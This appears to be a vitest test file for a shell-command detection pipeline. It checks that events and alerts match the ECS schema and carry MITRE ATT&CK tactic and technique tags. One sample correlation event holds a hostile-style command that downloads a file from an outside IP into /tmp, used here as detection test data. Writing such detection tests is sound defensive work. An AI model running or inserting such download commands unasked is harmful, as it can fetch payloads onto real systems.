import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ecsProblems, ECS_VERSION_ENCODED } from '../../../test/support/ecs-fields';
import { repoRules } from '../../../test/support/repo-rules';
import { buildCorrelationAlert } from '../correlation/build-correlation-alert';
import type { CorrelationAlert } from '../correlation/engine';
import { createRecordDecoder } from '../decode';
import type { DecoderOptions } from '../decode';
import { processBatch } from '../process-batch';
import type { OutputDocument } from '../process-batch';
import { formatRuleProblems, loadRuleSet } from '../rules';
import type { LoadedRule } from '../rules';
import { ECS_VERSION } from './ecs';

/**
 * Every document the pipeline builds — command events and alerts for every input
 * format of test/fixtures/formats, and the correlation alert of every correlation rule
 * of rules/ — against the ECS field definitions encoded in test/support/ecs-fields.ts.
 */
const ROOT = join(__dirname, '../../..');
const FIXTURES = join(ROOT, 'test/fixtures/formats');
const NOW = Date.UTC(2027, 0, 1, 0, 5, 0);

const CUSTOM_FORMATS = {
  formats: [
    {
      name: 'jumpbox',
      regex: '^(?<ts>\\S+) (?<user>[\\w.-]+)@(?<host>[\\w.-]+) \\[(?<pid>\\d+)\\] \\$ (?<cmd>.*)$',
    },
  ],
};

function fixtureFiles(): [file: string, options: DecoderOptions][] {
  return readdirSync(FIXTURES)
    .filter((file) => !file.endsWith('.expected.json'))
    .map((file) => [
      file,
      file === 'custom.input'
        ? { format: 'jumpbox', customFormats: CUSTOM_FORMATS }
        : file === 'lines.input'
          ? { format: 'lines' }
          : { format: 'auto', auditd: { timeoutMs: 1000 } },
    ]);
}

describe('ECS documents', async () => {
  const folder = await repoRules();
  const loaded = loadRuleSet(folder.rules, folder.lists);
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const encoder = new TextEncoder();

  function documentsOf(file: string, options: DecoderOptions): OutputDocument[] {
    const lines = readFileSync(join(FIXTURES, file), 'utf8').split('\n');
    const batch = processBatch(
      lines
        .filter((line) => line.trim() !== '')
        .map((line, i) => ({ offset: String(i), value: encoder.encode(line), timestampMs: NOW })),
      {
        topic: 't',
        partition: 0,
        decoder: createRecordDecoder({ clock: () => NOW, ...options }),
        evaluator: loaded.ok ? loaded.evaluator : (undefined as never),
        writeCommands: true,
        now: () => new Date(NOW),
      },
    );
    return batch.documents;
  }

  it('declares the ECS version the test encodes', () => {
    expect(ECS_VERSION).toBe(ECS_VERSION_ENCODED);
  });

  it.each(fixtureFiles())('every document built from %s is ECS', (file, options) => {
    const documents = documentsOf(file, options);
    expect(documents.length).toBeGreaterThan(0);
    for (const document of documents) {
      expect({ id: document.id, problems: ecsProblems(document.body) }).toEqual({
        id: document.id,
        problems: [],
      });
      expect(document.body).toMatchObject({ ecs: { version: ECS_VERSION } });
    }
  });

  it('the malicious fixture raises alerts with tactics, techniques and sub-techniques', () => {
    const alerts = documentsOf('mixed-malicious.log', { format: 'auto' }).filter(
      (d) => d.target === 'alerts',
    );
    expect(alerts.length).toBeGreaterThan(0);
    interface Named {
      id: string[];
      name: string[];
    }
    const shell = alerts.find((a) => JSON.stringify(a.body).includes('"T1059.004"'))?.body as
      { threat: { tactic: Named; technique: Named & { subtechnique: Named } } } | undefined;
    const technique = shell?.threat.technique;
    expect(technique?.id).toContain('T1059');
    expect(technique?.id.some((id) => id.includes('.'))).toBe(false);
    expect(technique?.name).toContain('Command and Scripting Interpreter');
    expect(technique?.subtechnique.id).toContain('T1059.004');
    expect(technique?.subtechnique.name).toContain('Unix Shell');
    expect(shell?.threat.tactic.id).toContain('TA0002');
    expect(shell?.threat.tactic.name).toContain('Execution');
  });

  const correlationRules = loaded.ok
    ? loaded.rules.filter(
        (r: LoadedRule) => r.definition.type === 'threshold' || r.definition.type === 'sequence',
      )
    : [];

  it('a correlation alert of every correlation rule is ECS', () => {
    expect(correlationRules.length).toBeGreaterThan(0);
    for (const { definition } of correlationRules) {
      const groupBy = definition.threshold?.groupBy ??
        definition.sequence?.groupBy ?? ['host.name'];
      const alert: CorrelationAlert = {
        id: `${definition.id}:x`,
        ruleId: definition.id,
        type: definition.type === 'sequence' ? 'sequence' : 'threshold',
        group: Object.fromEntries(
          groupBy.map((path) => [path, path === 'source.ip' ? '198.51.100.7' : 'v']),
        ),
        timestamp: new Date(NOW).toISOString(),
        events: [
          {
            id: 't:0:1',
            '@timestamp': new Date(NOW).toISOString(),
            command_line: 'curl -o /tmp/x http://198.51.100.7/x',
          },
        ],
        windowMs: 60_000,
      };
      const body = buildCorrelationAlert(alert, definition, new Date(NOW).toISOString());
      expect({ rule: definition.id, problems: ecsProblems(body) }).toEqual({
        rule: definition.id,
        problems: [],
      });
    }
  });

  it('the check fails on a top-level field outside ECS and shellwatch, and on a bad type', () => {
    expect(
      ecsProblems({
        tty: 'pts/0',
        event: { kind: 'event', category: ['process'], type: ['start'] },
      }),
    ).toEqual(['tty: not an ECS field set', 'tty: not in ECS 8.17.0 (as encoded)']);
    expect(
      ecsProblems({
        source: { ip: 'host-a' },
        event: { kind: 'alarm', category: ['process'], type: ['end', 'creation'] },
      }),
    ).toEqual([
      'source.ip: "host-a" is not a ip',
      'event.kind: "alarm" is not an ECS allowed value',
      'event.type: creation is not expected with process',
    ]);
  });
});
